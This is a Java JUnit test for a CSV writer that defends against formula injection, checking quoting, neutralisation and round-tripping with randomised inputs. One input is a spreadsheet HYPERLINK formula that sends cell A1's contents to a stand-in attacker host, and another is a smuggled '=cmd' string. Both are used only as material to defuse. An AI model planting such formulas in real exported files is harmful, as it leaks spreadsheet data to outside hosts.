package dev.l2r.funnel.api;

import dev.l2r.infra.test.Draw;
import dev.l2r.infra.test.Tries;
import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Cells as a spreadsheet would read them: text never starts with a formula character once written, reads back as
 * exactly the text (after the neutralising quote), and numbers stay numbers. Seeded draws ({@link Tries}): a failure
 * names its seed and input.
 */
public class CsvWriterTest {

    /** An RFC 4180 reading of one line into its cells, written here independently of the writer. */
    public static List<String> read(String line) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    static String line(Object... cells) {
        StringBuilder line = new StringBuilder();
        for (int i = 0; i < cells.length; i++) {
            line.append(i > 0 ? "," : "").append(CsvWriter.field(cells[i]));
        }
        return line.toString();
    }

    @Test
    void formulasInTextAreNeutralisedAndQuoted() {
        assertThat(CsvWriter.field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
        assertThat(CsvWriter.field("+1+2")).isEqualTo("\"'+1+2\"");
        assertThat(CsvWriter.field("-2+3")).isEqualTo("\"'-2+3\"");
        assertThat(CsvWriter.field("@SUM(A1:A9)")).isEqualTo("\"'@SUM(A1:A9)\"");
        assertThat(CsvWriter.field("\t=1+1")).isEqualTo("\"'\t=1+1\"");
        assertThat(CsvWriter.field("\r=1+1")).isEqualTo("\"'\r=1+1\"");
        assertThat(CsvWriter.field("\0=1+1")).isEqualTo("\"'\0=1+1\"");
        // text that looks like a negative number is still text: it is someone's channel name
        assertThat(CsvWriter.field("-5")).isEqualTo("\"'-5\"");
    }

    @Test
    void numbersDatesAndTimesStayAsTheyAre() {
        assertThat(CsvWriter.field(new BigDecimal("-1.500000"))).isEqualTo("-1.500000");
        assertThat(CsvWriter.field(new BigDecimal("-1E+3"))).isEqualTo("-1000");
        assertThat(CsvWriter.field(-5L)).isEqualTo("-5");
        assertThat(CsvWriter.field(-7)).isEqualTo("-7");
        assertThat(CsvWriter.field(LocalDate.of(2025, 3, 1))).isEqualTo("2025-03-01");
        assertThat(CsvWriter.field(Instant.parse("2025-03-01T00:00:00Z"))).isEqualTo("2025-03-01T00:00:00Z");
        assertThat(CsvWriter.field(null)).isEmpty();
    }

    @Test
    void plainTextIsUnquotedAndSeparatorsAreQuoted() {
        assertThat(CsvWriter.field("paid_search")).isEqualTo("paid_search");
        assertThat(CsvWriter.field("a=b")).isEqualTo("a=b");
        assertThat(CsvWriter.field("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvWriter.field("a;=cmd")).isEqualTo("\"a;=cmd\"");
        assertThat(CsvWriter.field("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    }

    /** Short text of the characters that matter to a spreadsheet and to CSV, or any text. */
    static String text(Random random) {
        return random.nextBoolean() ? Draw.string(random, "=+-@\t\r\n\0,;\"' aZ1(", 12) : Draw.anyString(random, 20);
    }

    @Test
    void textReadsBackAsItselfAndNeverStartsAFormula() {
        Tries.forAll(3000, random -> List.of(text(random), text(random)), Draw::shorterEach, texts -> {
            List<String> cells = read(line(texts.get(0), texts.get(1)));
            assertThat(cells).hasSize(2);
            for (int i = 0; i < 2; i++) {
                String original = texts.get(i);
                String cell = cells.get(i);
                if (!original.isEmpty() && CsvWriter.FORMULA_START.indexOf(original.charAt(0)) >= 0) {
                    assertThat(cell).isEqualTo("'" + original);
                } else {
                    assertThat(cell).isEqualTo(original);
                }
                assertThat(cell.isEmpty() || CsvWriter.FORMULA_START.indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
                // a semicolon-splitting spreadsheet finds no cell of its own inside: the field is quoted
                if (original.indexOf(';') >= 0) {
                    assertThat(CsvWriter.field(original)).startsWith("\"").endsWith("\"");
                }
            }
        });
    }

    record Scaled(long unscaled, int scale) {
    }

    @Test
    void negativeNumbersStayNumbers() {
        Tries.forAll(1000, random -> new Scaled(Draw.between(random, Long.MIN_VALUE, Long.MAX_VALUE),
                Draw.between(random, 0, 9)), n -> {
            BigDecimal d = BigDecimal.valueOf(n.unscaled(), n.scale());
            assertThat(CsvWriter.field(d)).isEqualTo(d.toPlainString());
            assertThat(CsvWriter.field(n.unscaled())).isEqualTo(Long.toString(n.unscaled()));
        });
    }
}
